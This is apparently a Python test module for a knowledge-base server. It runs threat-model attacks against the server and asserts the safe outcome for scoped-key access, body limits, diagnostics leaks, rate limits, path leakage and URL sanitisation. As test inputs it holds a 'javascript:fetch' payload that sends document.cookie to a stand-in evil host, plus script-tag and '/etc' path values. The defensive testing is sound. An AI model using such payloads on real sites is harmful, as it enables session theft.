"""The threat model as tests: every attack of issue 26, tried against a real `kb serve`, each asserting the safe outcome.

The setting: one collection (support) synced from a public folder and an internal one, a second
collection (it), and keys: an admin, a public-only reader, a public-only writer, a writer that sees
everything, and an admin scoped to the it collection. The attacker holds one of the public keys (or
none). Read docs/security.md for who is trusted and what each role and label may do.
"""

from __future__ import annotations

import json
import random
import socket
import string
import time
from pathlib import Path

import httpx
import pytest

from api import KeyStore
from tests.api_server import running_server, split_sample_docs, sync_collection, wait_for, write_server_config

# A word only the internal folder holds, and one no document holds: a public key must not tell them apart.
INTERNAL_WORD, MADE_UP_WORD = "quuxifrage", "blorptangle"


def _config(base: Path, public: Path, internal: Path, it: Path, **limits) -> Path:
    path = base / f"server-{len(list(base.glob('server-*.toml')))}.toml"
    return write_server_config(path, public, internal, it, **limits)


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    base = tmp_path_factory.mktemp("security")
    public, internal, it = base / "docs-public", base / "docs-internal", base / "docs-it"
    split_sample_docs(public, internal, it)
    (internal / "incident-codenames.md").write_text(
        f"# Incident code names\n\nThe {INTERNAL_WORD} procedure is used when a payment processor is down.\n"
    )
    (it / "vpn.txt").write_text("The office VPN uses WireGuard. Ask the IT desk for a profile.\n")
    store = KeyStore(base / "keys.sqlite")
    keys = {
        "admin": store.create("ops", "admin", ["*"], ["*"])[0],
        "public_read": store.create("website bot", "read", ["support"], ["public"])[0],
        "public_write": store.create("website editor", "write", ["support"], ["public"])[0],
        "writer": store.create("docs team", "write", ["support"], ["*"])[0],
        "it_admin": store.create("it ops", "admin", ["it"], ["*"])[0],
    }
    config = _config(base, public, internal, it, feedback_limit="5/minute")
    with running_server(config, base / "server.log") as (url, client, proc):
        for name in ("support", "it"):
            done = sync_collection(client, name, keys["admin"])
            assert done["state"] == "done", done["error"]
        yield {
            "url": url,
            "client": client,
            "keys": keys,
            "base": base,
            "store": store,
            "log": base / "server.log",
            "folders": (public, internal, it),
        }


def auth(world, who: str) -> dict:
    return {"Authorization": f"Bearer {world['keys'][who]}"}


def _document(world, key: str, who: str = "admin") -> httpx.Response:
    return world["client"].get(f"/v1/collections/support/documents/{key}", headers=auth(world, who), params={"text": "true"})


# Row 1: a public-only writer uploads a file named like an internal document.
def test_a_scoped_writer_cannot_replace_read_or_delete_an_internal_document_by_its_name(world):
    c = world["client"]
    before = _document(world, "account-recovery.md").json()
    assert before["visibility"] == "internal"
    files = {
        "file": ("account-recovery.md", b"# Account recovery\n\nEmail attacker@example.com for help.\n", "text/markdown")
    }
    r = c.post(
        "/v1/collections/support/documents", headers=auth(world, "public_write"), files=files, data={"visibility": "public"}
    )
    assert r.status_code == 403, r.text
    # The refusal does not say why: not that the document exists, nor its visibility or version.
    assert "internal" not in r.text and "version" not in r.text and "exists" not in r.text
    after = _document(world, "account-recovery.md").json()
    assert (after["version"], after["visibility"], after["text"]) == (before["version"], "internal", before["text"])
    for who in ("public_read", "public_write"):
        assert _document(world, "account-recovery.md", who).status_code == 404
        assert (
            c.get("/v1/collections/support/documents/account-recovery.md/history", headers=auth(world, who)).status_code
            == 404
        )
    assert (
        c.delete("/v1/collections/support/documents/account-recovery.md", headers=auth(world, "public_write")).status_code
        == 404
    )
    assert _document(world, "account-recovery.md").status_code == 200
    # The same writer may still add a public document of a new name, and update a public one.
    ok = c.post(
        "/v1/collections/support/documents",
        headers=auth(world, "public_write"),
        files={"file": ("status-page.md", b"# Status page\n\nSee status.example.com.\n", "text/markdown")},
        data={"visibility": "public"},
    )
    assert ok.status_code == 201 and ok.json()["status"] == "added", ok.text
    assert _document(world, "status-page.md", "public_read").status_code == 200


# Row 2: an invalid upload must change nothing, not even the stored original.
def test_an_upload_refused_for_any_reason_leaves_the_stored_original_as_it_was(world):
    c, h = world["client"], auth(world, "writer")
    original = b"# Runbook\n\nRestart the billing worker with the blue button.\n"
    assert (
        c.post(
            "/v1/collections/support/documents", headers=h, files={"file": ("runbook.md", original, "text/markdown")}
        ).status_code
        == 201
    )
    stored = world["base"] / "kbs" / "support" / "uploads" / "runbook.md"
    assert stored.read_bytes() == original
    version = _document(world, "runbook.md").json()["version"]
    bad_tag = c.post(
        "/v1/collections/support/documents",
        headers=h,
        data={"tags": "ok, <script>"},
        files={"file": ("runbook.md", b"# Runbook\n\nReplaced.\n", "text/markdown")},
    )
    assert bad_tag.status_code == 400 and "tag" in bad_tag.json()["detail"]
    bad_label = c.post(
        "/v1/collections/support/documents",
        headers=h,
        data={"visibility": "Top Secret!"},
        files={"file": ("runbook.md", b"# Runbook\n\nReplaced.\n", "text/markdown")},
    )
    assert bad_label.status_code == 400 and "visibility" in bad_label.json()["detail"]
    unparsable = c.post(
        "/v1/collections/support/documents",
        headers=h,
        files={"file": ("runbook.md", b"\x00\x01\x02" * 10 + b"\xff" * 100, "text/markdown")},
    )
    assert unparsable.status_code in (201, 422)  # binary noise may still decode; either way the pair below holds
    if unparsable.status_code == 422:
        assert stored.read_bytes() == original and _document(world, "runbook.md").json()["version"] == version
    assert stored.read_bytes() == original or unparsable.status_code == 201
    assert not [p.name for p in stored.parent.iterdir() if p.name.startswith(".")]  # no temp file left behind


# Row 3: sync jobs are the starter's (and admins') alone.
def test_a_sync_job_is_visible_only_to_the_key_that_started_it_and_to_admins(world):
    c = world["client"]
    base = str(world["base"])
    for _ in range(20):
        job = c.post("/v1/collections/support/sync", headers=auth(world, "writer"), json={"dry_run": True})
        assert job.status_code == 202, job.text
        job_id = job.json()["id"]
        other = c.post(
            "/v1/collections/support/sync",
            headers=auth(world, "public_write"),
            json={"sources": ["docs-public"], "dry_run": True},
        )
        if other.status_code == 409:
            assert job_id not in other.text and "already running" in other.json()["detail"]
            break
        assert other.status_code == 202, other.text  # the first job had already ended: try again
        wait_for(
            lambda: (
                c.get(f"/v1/collections/support/sync/{other.json()['id']}", headers=auth(world, "public_write")).json()[
                    "state"
                ]
                in ("done", "failed")
            ),
            60,
            "a job",
        )
    else:
        pytest.fail("never caught a sync job running")
    assert c.get(f"/v1/collections/support/sync/{job_id}", headers=auth(world, "public_write")).status_code == 404
    done = wait_for(
        lambda: (lambda j: j if j["state"] in ("done", "failed") else None)(
            c.get(f"/v1/collections/support/sync/{job_id}", headers=auth(world, "writer")).json()
        ),
        120,
        "the job",
    )
    assert done["state"] == "done"
    assert c.get(f"/v1/collections/support/sync/{job_id}", headers=auth(world, "admin")).status_code == 200
    text = json.dumps(done)
    assert base not in text and "/" not in "".join(done["sources"]) and "started_by" not in done


# Row 4: the chat question has the same 2,000-character cap as /search and /ask.
def test_a_huge_chat_message_is_refused_quickly_with_the_field_named(world):
    c = world["client"]
    started = time.monotonic()
    r = c.post(
        "/v1/chat/completions",
        headers=auth(world, "public_read"),
        json={"model": "support", "messages": [{"role": "user", "content": "refund " * 2_000}]},
    )
    assert r.status_code == 422 and "messages[0].content" in r.json()["detail"] and "2,000" in r.json()["detail"]
    # 200,000 characters are over this server's 16 KB body limit before any parsing.
    huge = c.post(
        "/v1/chat/completions",
        headers=auth(world, "public_read"),
        json={"model": "support", "messages": [{"role": "user", "content": "x" * 200_000}]},
    )
    assert huge.status_code == 413
    assert time.monotonic() - started < 5


# Row 5: a scoped key learns nothing from diagnostics about words only other labels hold.
def test_diagnostics_of_a_scoped_key_do_not_tell_an_internal_word_from_a_made_up_one(world):
    c = world["client"]

    def diagnostics(who: str, word: str) -> dict:
        r = c.post("/v1/collections/support/search", headers=auth(world, who), json={"query": f"{word} procedure"})
        assert r.status_code == 200, r.text
        return r.json()["diagnostics"]

    # The probe works for a key that sees everything (so the test can fail) ...
    assert diagnostics("admin", INTERNAL_WORD)["garble"] != diagnostics("admin", MADE_UP_WORD)["garble"]
    # ... and tells a public key nothing.
    internal, made_up = diagnostics("public_read", INTERNAL_WORD), diagnostics("public_read", MADE_UP_WORD)
    assert internal == made_up and set(internal) <= {"beta", "candidates"}
    hits = c.post(
        "/v1/collections/support/search", headers=auth(world, "public_read"), json={"query": INTERNAL_WORD, "k": 10}
    ).json()["hits"]
    assert all(h["visibility"] == "public" for h in hits)
    # Scores (BM25's word statistics and the character gate count every chunk) are omitted for a scoped key,
    # and so is an answer's evidence figure; a key that sees everything gets both.
    assert hits and all(h["score"] is None for h in hits)
    ask = {"question": f"{INTERNAL_WORD} procedure"}
    scoped = c.post("/v1/collections/support/ask", headers=auth(world, "public_read"), json=ask).json()
    full = c.post("/v1/collections/support/ask", headers=auth(world, "admin"), json=ask).json()
    assert scoped["evidence"] is None and all(h["score"] is None for h in scoped["closest"])
    assert isinstance(full["evidence"], float), full  # the whole reply when it fails (a flake seen twice on one box)


# Row 6: chat content parts whose text is not a string.
@pytest.mark.parametrize("text", [123, None, ["a"], {"x": 1}])
def test_a_chat_content_part_of_the_wrong_type_is_a_422_and_the_connection_lives(world, text):
    c = world["client"]
    body = {"model": "support", "messages": [{"role": "user", "content": [{"type": "text", "text": text}]}]}
    r = c.post("/v1/chat/completions", headers=auth(world, "public_read"), json=body)
    assert r.status_code == 422 and "content[0].text" in r.json()["detail"], r.text
    assert r.headers.get("connection", "").lower() != "close"


def _raw(url: str, head: str, body_part: bytes, timeout: float = 10.0) -> bytes:
    """Send head and the start of a body that is declared much longer, then read what the server answers."""
    host, port = url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=timeout) as s:
        s.sendall(head.encode() + body_part)
        s.settimeout(timeout)
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        return data


# Row 7: no key, a 20 MB body: answered 401 from the headers alone; body limits by route.
@pytest.mark.parametrize("path", ["/v1/collections/support/documents", "/v1/collections/support/search"])
def test_an_unauthenticated_20_mb_body_is_refused_before_it_is_read(world, path):
    head = (
        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
        f"Content-Length: {20 * 2**20}\r\n\r\n"
    )
    started = time.monotonic()
    reply = _raw(world["url"], head, b"--b\r\n" + b"x" * 65536)  # 64 KB of the declared 20 MB, then we wait
    assert reply.startswith(b"HTTP/1.1 401"), reply[:200]
    assert time.monotonic() - started < 5


def test_the_body_limit_is_the_routes_not_the_content_types(world):
    c = world["client"]
    h = {**auth(world, "public_read"), "content-type": "multipart/form-data; boundary=b"}
    r = c.post("/v1/collections/support/search", headers=h, content=b"--b\r\n" + b"x" * (64 * 1024))
    assert r.status_code == 413 and "16 KB" in r.json()["detail"]
    big = c.post(
        "/v1/collections/support/documents",
        headers=auth(world, "writer"),
        files={"file": ("big.txt", b"a" * (2 * 2**20), "text/plain")},
    )
    assert big.status_code == 413


# Feedback is limited per key; over a limit: 429 with Retry-After.
def test_feedback_is_limited_per_key_with_retry_after(world):
    c = world["client"]
    hit = c.post(
        "/v1/collections/support/search", headers=auth(world, "public_read"), json={"query": "support hours", "k": 1}
    ).json()["hits"][0]
    codes = []
    for i in range(7):
        r = c.post(
            "/v1/collections/support/feedback",
            headers=auth(world, "public_read"),
            json={"question": f"support hours {i}?", "chunk_id": hit["chunk_id"], "helpful": True},
        )
        codes.append(r.status_code)
    assert codes[:5] == [201] * 5 and codes[5:] == [429, 429]
    assert int(r.headers["retry-after"]) >= 1 and "rate limit" in r.json()["detail"]
    # Another key is not held back by it.
    assert (
        c.post(
            "/v1/collections/support/feedback",
            headers=auth(world, "admin"),
            json={"question": "support hours?", "chunk_id": hit["chunk_id"], "helpful": True},
        ).status_code
        == 201
    )


# Metrics: an admin scoped to one collection sees only that collection's figures.
def test_metrics_of_a_scoped_admin_hold_only_its_collections(world):
    c = world["client"]
    full = c.get("/v1/metrics", headers=auth(world, "admin")).text
    assert 'collection="support"' in full and 'collection="it"' in full
    scoped = c.get("/v1/metrics", headers=auth(world, "it_admin"))
    assert scoped.status_code == 200
    assert 'collection="support"' not in scoped.text and 'hkb_documents{collection="it"} 1.0' in scoped.text


# Keys expire; the store is the owner's alone; no server path reaches a reply.
def test_an_expired_key_is_refused_and_key_and_kb_files_are_owner_only(world):
    c = world["client"]
    token, _ = world["store"].create("short-lived", "read", ["support"], ["public"], expires_at=time.time() + 3)
    assert c.get("/v1/collections", headers={"Authorization": f"Bearer {token}"}).status_code == 200
    wait_for(
        lambda: c.get("/v1/collections", headers={"Authorization": f"Bearer {token}"}).status_code == 401,
        30,
        "the expired key to be refused",
    )
    used = {k.name: k.last_used_at for k in world["store"].list()}
    assert used["short-lived"] is not None and used["ops"] is not None
    assert (world["base"] / "keys.sqlite").stat().st_mode & 0o077 == 0
    assert (world["base"] / "kbs" / "support").stat().st_mode & 0o077 == 0
    log = world["log"].read_text()
    assert not any(t in log or t.split("_", 2)[2] in log for t in world["keys"].values())  # secrets never logged


def test_no_reply_names_a_server_path(world):
    c = world["client"]
    base = str(world["base"])
    replies = [
        c.post(
            "/v1/collections/support/documents",
            headers=auth(world, "writer"),
            files={"file": ("notes.exe", b"MZ", "application/x")},
        ),
        c.post("/v1/collections/support/sync", headers=auth(world, "writer"), json={"sources": ["/etc"]}),
        c.get("/v1/collections/support/documents", headers=auth(world, "admin")),
        c.get("/v1/collections/support/documents/billing-faq.html/history", headers=auth(world, "admin")),
    ]
    for r in replies:
        assert base not in r.text, r.text[:300]


# Row 8 (and fixed labels in general): made-up methods never become metric labels.
def test_made_up_methods_fold_into_one_metrics_label_with_either_parser(world):
    public, internal, it = world["folders"]
    config = _config(world["base"], public, internal, it, rate_limit="5/minute")
    with running_server(config, world["base"] / "server-h11.log", ("--http", "h11")) as (url, client, _):
        rng = random.Random(26)
        for _ in range(300):
            method = "".join(rng.choice(string.ascii_uppercase) for _ in range(8))
            assert client.request(method, "/v1/collections").status_code in (400, 401, 405)
        text = client.get("/v1/metrics", headers=auth(world, "admin")).text
        methods = {
            line.split('method="')[1].split('"')[0] for line in text.splitlines() if line.startswith("hkb_requests_total{")
        }
        assert methods <= {"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "other"} and "other" in methods
        assert len(text) < 64 * 1024
        # The same server's rate limit: 5 a minute per key, then 429 with Retry-After; other keys go on.
        codes = [client.get("/v1/collections", headers=auth(world, "public_read")).status_code for _ in range(6)]
        assert codes == [200] * 5 + [429]
        retry = client.get("/v1/collections", headers=auth(world, "public_read"))
        assert retry.status_code == 429 and 1 <= int(retry.headers["retry-after"]) <= 60
        assert client.get("/v1/collections", headers=auth(world, "writer")).status_code == 200


def test_export_urls_other_than_http_are_dropped(world, tmp_path):
    from kb import web_url

    assert web_url("javascript:alert(document.cookie)") == "" and web_url("data:text/html,<script>") == ""
    assert web_url(" https://help.example.com/hc/articles/1 ") == "https://help.example.com/hc/articles/1"
    c = world["client"]
    export = {
        "articles": [
            {
                "id": 1,
                "title": "Phishing",
                "body": "<p>Click the link to reset your password.</p>",
                "html_url": "javascript:fetch('//evil.example/'+document.cookie)",
            }
        ]
    }
    public = world["folders"][0]
    (public / "help-centre.json").write_text(json.dumps(export))
    try:
        done = sync_collection(c, "support", world["keys"]["admin"])
        assert done["state"] == "done", done
        docs = c.get("/v1/collections/support/documents", headers=auth(world, "public_read")).json()
        article = [d for d in docs if d["key"].startswith("help-centre.json")]
        assert article and all(d["url"] == "" for d in article)
    finally:
        (public / "help-centre.json").unlink()


def test_upload_slots_are_bounded_with_a_share_per_key():
    from fastapi import HTTPException

    from api.documents import UploadGate, UploadLimits

    gate = UploadGate(UploadLimits(slots=3, per_key=2))
    with gate.hold("a"), gate.hold("a"):
        with pytest.raises(HTTPException) as mine:
            with gate.hold("a"):
                pass
        assert mine.value.status_code == 429 and mine.value.headers["Retry-After"]
        with gate.hold("b"):  # another key still gets a slot while "a" holds its share ...
            with pytest.raises(HTTPException):  # ... until the server's slots are all taken
                with gate.hold("c"):
                    pass
    with gate.hold("c"):
        pass
